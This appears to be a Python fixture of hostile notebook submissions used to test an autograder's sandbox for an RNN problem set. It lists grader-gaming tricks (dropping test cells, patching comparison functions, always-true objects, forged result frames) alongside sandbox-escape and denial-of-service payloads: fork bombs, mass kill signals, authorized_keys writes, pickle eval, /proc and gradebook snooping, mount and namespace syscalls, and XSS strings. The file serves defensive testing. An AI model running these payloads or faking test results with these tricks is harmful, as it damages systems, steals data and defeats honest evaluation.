"""Hostile submissions. Each has two honest answers, worth HONEST points, and an attack beside them.

An attack is code in a cell of its own, dishonest answers, a change to the notebook, or a change to the folder.
{course}, {port} and {home} in code stand for the course folder, a listening port and the grader's home.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HONEST = 4.0
HONEST_ANSWERS = {
    "make-layer": "def make_layer(features, hidden):\n    return nn.RNN(features, hidden, batch_first=True)",
    "swap-axes": "def time_first(batch):\n    return batch.transpose(0, 1)",
}
ALL = ["make_layer", "rnn_shapes", "zero_state", "run_one", "by_layer", "summary", "time_first", "run_batch"]


@dataclass(frozen=True)
class Attack:
    """What is done beside the honest answers, and what the honest part deserves."""

    family: str
    code: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    notebook: Callable[[dict], object] | None = None
    folder: Callable[[Path, Path], object] | None = None
    points: float = HONEST
    refused: bool = False


def each(change: Callable[[dict], object], which: Callable[[dict], bool]) -> Callable[[dict], object]:
    return lambda notebook: [change(cell) for cell in notebook["cells"] if which(cell)]


def is_test(cell: dict) -> bool:
    return "-check" in cell["id"]


def marks(**changes: object) -> Callable[[dict], object]:
    return lambda cell: cell["metadata"]["nbgrader"].update(changes)


def double(notebook: dict) -> None:
    notebook["cells"] += [json.loads(json.dumps(cell)) for cell in notebook["cells"]]


def without_tests(notebook: dict) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if not is_test(cell)]


def old_format(notebook: dict) -> None:
    cells = notebook.pop("cells")
    for cell in cells:
        if cell["cell_type"] == "code":
            cell.update(input=cell.pop("source"), language="python", prompt_number=None, collapsed=False)
    notebook.update(nbformat=3, nbformat_minor=0, worksheets=[{"cells": cells}])


def replace_bytes(content: bytes) -> Callable[[Path, Path], object]:
    return lambda notebook, course: notebook.write_bytes(content)


def link_to_source(notebook: Path, course: Path) -> None:
    notebook.unlink()
    notebook.symlink_to(course / "source" / "ps1_shapes" / "ps1_shapes.ipynb")


def link_folder(notebook: Path, course: Path) -> None:
    for file in notebook.parent.iterdir():
        file.unlink()
    notebook.parent.rmdir()
    notebook.parent.symlink_to(course / "source" / "ps1_shapes")


def link_others(notebook: Path, course: Path) -> None:
    (notebook.parent / "gradebook.db").symlink_to(course / "gradebook.db")
    (notebook.parent / "others").symlink_to(course / "submitted")


def fifo(notebook: Path, course: Path) -> None:
    notebook.unlink()
    os.mkfifo(notebook)


def fifo_timestamp(notebook: Path, course: Path) -> None:
    stamp = notebook.parent / "timestamp.txt"
    stamp.unlink()
    os.mkfifo(stamp)


def shadow(notebook: Path, course: Path) -> None:
    evil = "open('/tmp/unrolled-shadow', 'w').write('owned')\n"
    for name in ("torch.py", "ipykernel_launcher.py", "sitecustomize.py", "course_utils/__init__.py", "check.py"):
        path = notebook.parent / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(evil)


LIAR = """
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return Liar()
    def __call__(self, *a, **k): return Liar()
    def __iter__(self): return iter([Liar(), Liar()])
    def __len__(self): return 2
    def __float__(self): return 1.0
    def __bool__(self): return True
    def __instancecheck__(self, other): return True
"""
EVERYTHING = "\n".join(f"{name} = Liar()" for name in ALL if name not in ("make_layer", "time_first"))
LIES = {
    "run-batch": "def run_batch(*a): return Liar()",
    "both-directions": "def summary(*a): return Liar()",
    "predict-shapes": "def rnn_shapes(**k): return Liar()",
    "initial-state": "zero_state = Liar()",
}
SNOOP = """
import os
found = []
for top in ("{course}", "/work", "/home", "/root", "/"):
    for folder, folders, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/usr")): folders.clear(); continue
        found += [os.path.join(folder, f) for f in files if f.endswith((".ipynb", ".db"))]
text = "".join(open(f, errors="ignore").read() for f in found)
print("SNOOPED", found, text[:500])
"""
SOCKETS = """
import os, socket, stat
def channels():
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode): yield int(name)
        except OSError: pass
"""

SYSTEM_CALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def tried(what, *arguments):
    if libc.syscall(*arguments) >= 0: print("GOT", what)
"""


def call(what: str, *arguments: object) -> str:
    """Code that says "GOT" where a system call (numbers of x86-64) is not refused."""
    return f"{SYSTEM_CALLS}tried({what!r}, {', '.join(map(str, arguments))})"


def socket_of(*families: int) -> str:
    return f"""
import socket
for family in {families}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try: socket.socket(family, kind); print("GOT", family, kind)
        except OSError: pass
"""


def forged(frame: str) -> str:
    """Code that lets every answer be this frame: an expression of Python, with `tree(…)` for one of JSON."""
    return f"""
import json, struct
import course_utils.grading.runtime.codec as w
def tree(node):
    text = json.dumps(["list", [["str", "ok"], node]]).encode()
    return struct.pack("<II", len(text), 0) + text
frame = {frame}
w.encode = lambda *a, **k: frame
"""


FLOOD = "\\x1b]0;owned\\x07\\x1b[2J\\r"
ATTACKS: dict[str, Attack] = {
    # drop the tests
    "ast-transformer": Attack(
        "drop",
        """
import ast
class Drop(ast.NodeTransformer):
    def visit_Module(self, node): node.body = []; return node
get_ipython().ast_transformers.append(Drop())
""",
        points=0.0,
    ),
    "input-transformer": Attack("drop", "get_ipython().input_transformers_post.append(lambda lines: [])", points=0.0),
    "patched-run-cell": Attack("drop", "get_ipython().run_cell = lambda *a, **k: None", points=0.0),
    "patched-run-code": Attack("drop", "type(get_ipython()).run_code = lambda *a, **k: False", points=0.0),
    "pre-run-hook": Attack("drop", "get_ipython().events.register('pre_run_cell', lambda info: exit(0))"),
    "system-exit": Attack("drop", "raise SystemExit(0)"),
    "skip-tag": Attack("drop", notebook=each(lambda c: c["metadata"].update(tags=["skip-execution"]), is_test)),
    "tests-deleted": Attack("drop", notebook=without_tests),
    "tests-emptied": Attack("drop", notebook=each(lambda c: c.update(source="pass"), is_test)),
    "tests-return-points": Attack("drop", notebook=each(lambda c: c.update(source="2.0"), is_test)),
    "tests-as-markdown": Attack("drop", notebook=each(lambda c: c.update(cell_type="markdown"), is_test)),
    "tests-as-answers": Attack("drop", notebook=each(marks(solution=True, grade=False, locked=False), is_test)),
    "more-points": Attack("drop", notebook=each(marks(points=1000), is_test)),
    "faked-outputs": Attack(
        "drop",
        notebook=each(
            lambda c: c.update(
                execution_count=1, outputs=[{"output_type": "execute_result", "data": {"text/plain": "2.0"}}]
            ),
            is_test,
        ),
    ),
    # lie in the process
    "patched-allclose": Attack("lie", "torch.allclose = torch.equal = lambda *a, **k: True"),
    "patched-isinstance": Attack("lie", "import builtins\nbuiltins.isinstance = lambda *a: True"),
    "liar-objects": Attack("lie", LIAR + EVERYTHING),
    "liar-results": Attack("lie", LIAR, answers=LIES),
    "tensor-subclass": Attack(
        "lie",
        """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None): return torch.tensor(0.0)
""",
        answers={"run-batch": "def run_batch(layer, batch): return batch.as_subclass(Yes)"},
    ),
    "redefined-check": Attack(
        "lie", "class check:\n    call = close = shape = equal = layer = staticmethod(lambda *a, **k: 1)"
    ),
    "patched-check": Attack(
        "lie", "from course_utils import check as c\nc.close = c.shape = c.layer = lambda *a, **k: None"
    ),
    "patched-toy": Attack("lie", "import course_utils.toy as d\nd.sizes = lambda *a: d.Sizes(1, 1, 1, 1, 1, 1)"),
    "settrace": Attack(
        "lie", "import sys\nsys.settrace(lambda frame, event, arg: frame.f_locals.clear())", points=HONEST
    ),
    "patched-encoder": Attack(
        "lie",
        """
import course_utils.grading.runtime.codec as w
w.encode = lambda *a, **k: b"\\x05\\x00\\x00\\x00\\x00\\x00\\x00\\x00[[[[["
""",
        points=0.0,
    ),
    "patched-server": Attack(
        "lie",
        """
import gc, course_utils.grading.runtime.student as s
s.Student.do_call = lambda self, f, a, k: [True, ""]
s.Student.do_get = lambda self, name: True
""",
        points=0.0,
    ),
    "pickled-answer": Attack(
        "lie",
        """
import course_utils.grading.runtime.encoder as w, pickle
class P:
    def __reduce__(self): return (eval, ("open('/tmp/unrolled-pickle','w')",))
w.Encoder.node = lambda self, v, d: ["pickle", pickle.dumps(P()).hex()]
""",
        points=HONEST,
    ),
    "hard-coded-examples": Attack(
        "lie",
        answers={
            "run-batch": "def run_batch(layer, batch):\n    return batch.cumsum(1)",
            "both-directions": "def summary(layer, batch):\n    return torch.cat([batch.sum(1), batch.sum(1)], 1)",
            "one-sequence": "def run_one(layer, sequence):\n    return sequence.cumsum(0)",
            "predict-shapes": "def rnn_shapes(**k):\n    return (4, 7, 3), (1, 4, 3)",
            "initial-state": "def zero_state(layer, batch):\n    return torch.zeros(1, 4, 3)",
        },
    ),
    "swapped-builtins": Attack(
        "lie", "import builtins\nbuiltins.AssertionError = builtins.Exception = type('E', (BaseException,), {})"
    ),
    # take the answer
    "read-files": Attack("take", SNOOP),
    "read-gradebook": Attack(
        "take",
        "import sqlite3\nprint('SNOOPED', sqlite3.connect('{course}/gradebook.db').execute('select source from base_cell').fetchall())",
    ),
    "read-history": Attack("take", "print('SNOOPED', In, _ih, [c for c in In if 'HIDDEN' in c])"),
    "read-memory": Attack(
        "take",
        """
import gc
print("SNOOPED", [o[:200] for o in gc.get_objects() if isinstance(o, str) and "HIDDEN TESTS" in o and len(o) > 40])
""",
    ),
    "read-frames": Attack(
        "take",
        answers={
            "run-batch": """
def run_batch(layer, batch):
    import sys
    frame, seen = sys._getframe(), []
    while frame:
        seen += [k for k in frame.f_locals if k in ("alone", "expected", "sums", "steps")]
        frame = frame.f_back
    print("SNOOPED", seen)
"""
        },
    ),
    "read-proc": Attack(
        "take",
        """
import os
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline", "maps"):
            try: print("SNOOPED", pid, name, open(f"/proc/{pid}/{name}").read()[:300])
            except OSError: pass
""",
    ),
    "link-to-source": Attack("take", folder=link_to_source, points=0.0, refused=True),
    "link-to-source-folder": Attack("take", folder=link_folder, points=0.0, refused=True),
    "links-beside": Attack("take", folder=link_others),
    # break the grader
    "shadow-modules": Attack("break", folder=shadow),
    "write-everywhere": Attack(
        "break",
        """
import os, pathlib
for target in ("{course}", "{home}", "/usr", "/etc", "/dev/shm", "/tmp", "/", "/proc"):
    for name in ("unrolled-canary", "gradebook.db", ".ssh/authorized_keys"):
        try: pathlib.Path(target, name).write_text("owned")
        except OSError: pass
import shutil
for target in ("{course}/submitted", "{course}/autograded", "{course}/gradebook.db"):
    shutil.rmtree(target, ignore_errors=True)
""",
    ),
    "network": Attack(
        "break",
        """
import socket
for address in ("127.0.0.1", "0.0.0.0", "::1"):
    try:
        s = socket.create_connection((address, {port}), timeout=1); s.sendall(b"owned"); print("CONNECTED")
    except OSError as error: print(error)
""",
    ),
    "daemon": Attack(
        "break",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(2)
        for target in ("{course}", "/tmp"):
            try: open(target + "/unrolled-canary", "w").write("late")
            except OSError: pass
        os._exit(0)
    os._exit(0)
""",
    ),
    "kill-everything": Attack(
        "break",
        """
import os, signal
for pid in [os.getppid(), 1, -1, *range(2, 400)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
""",
    ),
    "mount": Attack(
        "break",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.umount2(b"/student", 2); libc.mount(b"none", b"/usr", b"tmpfs", 0, None); libc.unshare(0x10020000)
libc.mount(b"none", b"/", None, 1 << 18 | 1 << 14, None)
try: open("/usr/unrolled-canary", "w")
except OSError as error: print(error)
""",
    ),
    "garbage-on-the-channel": Attack(
        "break",
        SOCKETS
        + """
for fd in channels(): os.write(fd, b"\\xff" * 4096)
""",
    ),
    "forged-answer": Attack(
        "break",
        SOCKETS
        + """
import course_utils.grading.runtime.codec as w, struct
forged = w.encode(["ok", True])
for fd in channels(): os.write(fd, (struct.pack("<Q", len(forged)) + forged) * 50)
""",
    ),
    "endless-frame": Attack(
        "break",
        SOCKETS
        + """
import struct
for fd in channels(): os.write(fd, struct.pack("<Q", 1 << 62))
""",
    ),
    "closed-channel": Attack("break", SOCKETS + "for fd in channels(): os.close(fd)"),
    # break the batch
    "not-json": Attack("batch", folder=replace_bytes(b"hello"), points=0.0, refused=True),
    "zero-bytes": Attack("batch", folder=replace_bytes(b""), points=0.0, refused=True),
    "bad-utf8": Attack("batch", folder=replace_bytes(b'{"cells": "\xff"}'), points=0.0, refused=True),
    "deep-json": Attack("batch", folder=replace_bytes(b"[" * 200_000 + b"]" * 200_000), points=0.0, refused=True),
    "deep-metadata": Attack(
        "batch",
        folder=replace_bytes(b'{"cells": [], "metadata": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001),
        points=0.0,
        refused=True,
    ),
    "foreign": Attack(
        "batch",
        folder=replace_bytes(b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'),
        points=0.0,
        refused=True,
    ),
    "long-number": Attack(
        "batch", folder=replace_bytes(b'{"cells": ' + b"9" * 1_000_000 + b"}"), points=0.0, refused=True
    ),
    "not-cells": Attack(
        "batch",
        folder=replace_bytes(b'{"cells": [1, null, {"metadata": 3}, {"source": {"a": 1}}]}'),
        points=0.0,
        refused=True,
    ),
    "format-3": Attack("batch", notebook=old_format),
    "too-large": Attack("batch", folder=replace_bytes(b" " * (21 << 20)), points=0.0, refused=True),
    "fifo": Attack("batch", folder=fifo, points=0.0, refused=True),
    "fifo-for-a-timestamp": Attack("batch", folder=fifo_timestamp),
    "all-twice": Attack("batch", notebook=double),
    "cells-reversed": Attack("batch", notebook=lambda nb: nb["cells"].reverse()),
    "strange-ids": Attack("batch", notebook=each(lambda c: c.update(id="../../x" * 50), lambda c: True)),
    # exhaust
    "fork-bomb": Attack("exhaust", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "thread-bomb": Attack(
        "exhaust",
        "import threading, time\nfor i in range(5000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
    ),
    "memory": Attack("exhaust", "x = []\nwhile True: x.append(bytearray(50_000_000))"),
    "torch-memory": Attack("exhaust", "y = torch.ones(10**10)"),
    "disk": Attack("exhaust", "for i in range(10_000): open(f'f{i}', 'wb').write(b'x' * 10_000_000)"),
    "output-flood": Attack("exhaust", "for i in range(3_000_000): print('x' * 100)"),
    "display-flood": Attack(
        "exhaust", "from IPython.display import display\nfor i in range(20000): display('x' * 10000)"
    ),
    "loop-that-swallows": Attack(
        "exhaust",
        """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    ),
    "loop-in-an-answer": Attack("exhaust", answers={"run-batch": "def run_batch(*a):\n    while True: pass"}),
    "os-exit": Attack("exhaust", "import os\nos._exit(0)"),
    "os-exit-in-an-answer": Attack("exhaust", answers={"one-sequence": "def run_one(*a):\n    import os; os._exit(0)"}),
    "crash": Attack("exhaust", "import ctypes\nctypes.string_at(0)"),
    "recursion": Attack("exhaust", "import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()"),
    "huge-result": Attack("exhaust", answers={"run-batch": "def run_batch(*a):\n    return torch.zeros(10**8)"}),
    "nested-result": Attack(
        "exhaust",
        answers={"run-batch": "def run_batch(*a):\n    x = []\n    for i in range(900): x = [x]\n    return x"},
    ),
    # leak
    "script-in-output": Attack(
        "leak",
        "from IPython.display import HTML, display\ndisplay(HTML('<script>alert(1)</script>'))\nprint('<script>alert(2)</script>')",
    ),
    "script-in-text": Attack(
        "leak", answers={"explain-equal-sizes": "<script>alert(3)</script> <img src=x onerror=alert(4)>"}
    ),
    # harm or reach a neighbour
    "kill-group": Attack("neighbour", "import os, signal\nos.kill(0, signal.SIGKILL)"),
    "stop-group": Attack("neighbour", "import os, signal\nos.kill(0, signal.SIGSTOP)"),
    "hang-up-group": Attack("neighbour", "import os, signal\nos.killpg(os.getpgid(0), signal.SIGHUP)"),
    "stop-everything": Attack("neighbour", "import os, signal\nos.kill(-1, signal.SIGSTOP)"),
    "stop-own-init": Attack(
        "neighbour",
        "import os, signal\nif os.fork() == 0:\n    os.kill(1, signal.SIGSTOP); os.kill(1, signal.SIGKILL); os._exit(0)",
    ),
    "descriptors": Attack(
        "neighbour",
        """
import os
known = []
for fd in os.listdir("/proc/self/fd"):
    try: known.append(os.readlink(f"/proc/self/fd/{fd}").partition(":")[0])
    except OSError: pass  # that of the list
others = [name for name in known if name not in ("socket", "/dev/null") and not name.startswith("/student/")]
if others or known.count("socket") > 1: print("GOT", known)
""",
    ),
    "abstract-sockets": Attack(
        "neighbour",
        """
import os, socket, time
for name in ("\\0unrolled-1", "\\0unrolled-2"):
    try: socket.socket(socket.AF_UNIX).connect(name); print("GOT", repr(name))
    except OSError: pass
    s = socket.socket(socket.AF_UNIX); s.bind(name); s.listen()
time.sleep(0.5)
""",
    ),
    "abstract-sockets-too": Attack(
        "neighbour",
        """
import socket, time
time.sleep(0.5)
for name in ("\\0unrolled-1", "\\0unrolled-2"):
    try: socket.socket(socket.AF_UNIX).connect(name); print("GOT", repr(name))
    except OSError: pass
""",
    ),
    "shared-memory": Attack(
        "neighbour",
        """
import os
for folder in ("/dev/shm", "/tmp", "/student", "/dev/mqueue", "/run", "/var/tmp"):
    try: left = os.listdir(folder)
    except OSError: continue
    if "note" in left: print("GOT", folder, left)
    try: open(folder + "/note", "w").write("hello, neighbour")
    except OSError: pass
""",
    ),
    "terminals": Attack(
        "neighbour",
        """
import os, pty
if [name for name in os.listdir("/dev/pts") if name != "ptmx"]: print("GOT", os.listdir("/dev/pts"))
kept = [pty.openpty() for _ in range(3)]
""",
    ),
    "typing": Attack(
        "neighbour",
        """
import fcntl, os, pty
master, slave = pty.openpty()
for fd in (slave, master):
    for request in (0x5412, 0x541C):
        try: fcntl.ioctl(fd, request, b"x"); print("GOT", request)
        except OSError: pass
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/proc/1/fd/0", "/proc/self/fd/2"):
    try: os.write(os.open(path, os.O_WRONLY | os.O_NOCTTY), b"\\x1b]0;owned\\x07")
    except OSError: pass
""",
    ),
    "keyrings": Attack(
        "neighbour",
        SYSTEM_CALLS
        + """
for ring in (-3, -4, -5): tried("a keyring", 250, 0, ring, 0)
tried("a key", 248, b"user", b"unrolled", b"hello", 5, -4)
""",
    ),
    "user-namespace": Attack(
        "neighbour",
        call("a namespace", 272, "0x10000000")
        + "\nimport subprocess\nif subprocess.run(['unshare', '-Ur', 'true'], stderr=-3).returncode == 0: print('GOT root')",
    ),
    "clone-namespace": Attack(
        "neighbour",
        SYSTEM_CALLS
        + """
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
    pid = libc.syscall(56, flag | 17, 0, 0, 0, 0)
    if pid == 0: os._exit(0)
    if pid > 0: print("GOT", hex(flag))
arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, 17)
pid = libc.syscall(435, arguments, ctypes.sizeof(arguments))
if pid == 0: os._exit(0)
if pid > 0: print("GOT clone3")
""",
    ),
    "sockets-of-the-kernel": Attack("neighbour", socket_of(16, 17, 38, 40, 31, 44)),
    "io-uring": Attack("neighbour", call("io_uring", 425, 8, "ctypes.create_string_buffer(200)")),
    "aio": Attack("neighbour", call("aio", 206, 8, "ctypes.byref(ctypes.c_uint64())")),
    "kernel-doors": Attack(
        "neighbour",
        "".join(
            call(what, *arguments) + "\n"
            for what, *arguments in (
                ("bpf", 321, 0, "ctypes.create_string_buffer(128)", 128),
                ("perf", 298, "ctypes.create_string_buffer(128)", 0, -1, -1, 0),
                ("userfaultfd", 323, 1),
                ("personality", 135, "0x40000"),
                ("inotify", 294, 0),
                ("memfd", 319, 'b"x"', 0),
                ("shared memory of System V", 29, 0, 4096, "0o1777"),
                ("mounting", 428, -100, 'b"/"', 1),
            )
        ),
    ),
    "trace-init": Attack(
        "neighbour",
        SYSTEM_CALLS
        + """
if os.fork() == 0:
    if libc.syscall(101, 16, 1, 0, 0) == 0: open("/student/traced", "w")
    os._exit(0)
os.wait()
if os.path.exists("/student/traced"): print("GOT ptrace")
""",
    ),
    "settings-of-the-kernel": Attack(
        "neighbour",
        """
import os
def tried(path, text):
    try: os.write(os.open(path, os.O_WRONLY), text); print("GOT", path)
    except OSError: pass
for path in ("kernel/core_pattern", "vm/drop_caches", "user/max_user_namespaces", "fs/inotify/max_user_watches"):
    tried("/proc/sys/" + path, b"1")
for path, text in (("sysrq-trigger", b"h"), ("self/oom_score_adj", b"-1000"), ("self/uid_map", b"0 0 1")):
    tried("/proc/" + path, text)
""",
    ),
    "first-in-line": Attack(
        "neighbour",
        """
import os, time
for take in (lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)), lambda: os.nice(-5), lambda: time.clock_settime(0, 0)):
    try: take(); print("GOT", take)
    except OSError: pass
""",
    ),
    "setuid-programs": Attack(
        "neighbour",
        """
import os, subprocess
for program in ("su", "mount", "passwd", "newgrp"):
    try: subprocess.run([program], stdin=-3, stdout=-3, stderr=-3, timeout=1)
    except (OSError, subprocess.TimeoutExpired): pass
if os.getuid() == 0 or os.geteuid() == 0: print("GOT root")
""",
    ),
    "core-dumps": Attack(
        "neighbour",
        """
import os, resource, signal
try: resource.setrlimit(resource.RLIMIT_CORE, (0, 0)); print("GOT the program for crashes")
except (OSError, ValueError): pass
for _ in range(20):
    if os.fork() == 0: os.kill(os.getpid(), signal.SIGABRT)
""",
    ),
    "descriptors-in-flight": Attack(
        "neighbour",
        """
import socket
kept = []
try:
    while True:
        a, b = socket.socketpair(); kept.append((a, b))
        for _ in range(250): socket.send_fds(a, [b"x"], [a.fileno()] * 200)
except OSError: pass
""",
    ),
    "pipes": Attack(
        "neighbour",
        """
import fcntl, os
kept = []
try:
    while True:
        r, w = os.pipe(); kept.append((r, w)); os.set_blocking(w, False); os.write(w, b"x" * 65536)
except OSError: pass
try: fcntl.fcntl(kept[0][1], 1031, 1 << 20); print("GOT a larger pipe")
except OSError: pass
""",
    ),
    "files-without-end": Attack("exhaust", "for i in range(10**6): open(f'/student/f{i}', 'w').close()"),
    "dripping-answer": Attack(
        "exhaust",
        SOCKETS
        + """
import signal, struct, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
for fd in channels():
    os.write(fd, struct.pack("<Q", 1 << 25))
    while True: os.write(fd, b"x"); time.sleep(0.0005)
""",
    ),
    "busy-after-the-end": Attack(
        "exhaust",
        SOCKETS
        + """
import signal
for _ in range(5):
    if os.fork() == 0:
        os.setsid(); signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
        while True: pass
for fd in channels(): os.close(fd)
while True: pass
""",
    ),
    "colliding-keys": Attack(
        "exhaust", forged('tree(["set", [["int", str(i * (2**61 - 1))] for i in range(90_000)]])'), points=0.0
    ),
    "billion-layers": Attack(
        "exhaust",
        forged(
            'tree(["module", "RNN", ["dict", [[["str", n], ["int", v]] for n, v in (("input_size", "2"), '
            '("hidden_size", "2"), ("num_layers", "1000000000"))]], [], True])'
        ),
        points=0.0,
    ),
    "long-name-of-a-dtype": Attack("exhaust", forged('tree(["dtype", "x" * 3_000_000])'), points=0.0),
    "strange-errors": Attack(
        "leak",
        f"class Strange(Exception): pass\nStrange.__name__ = '{FLOOD}' * 100_000\nraise Strange('{FLOOD}' * 100_000)",
    ),
    "terminal-codes": Attack("leak", f"print('{FLOOD}' * 100)\nimport warnings; warnings.warn('{FLOOD}')"),
}
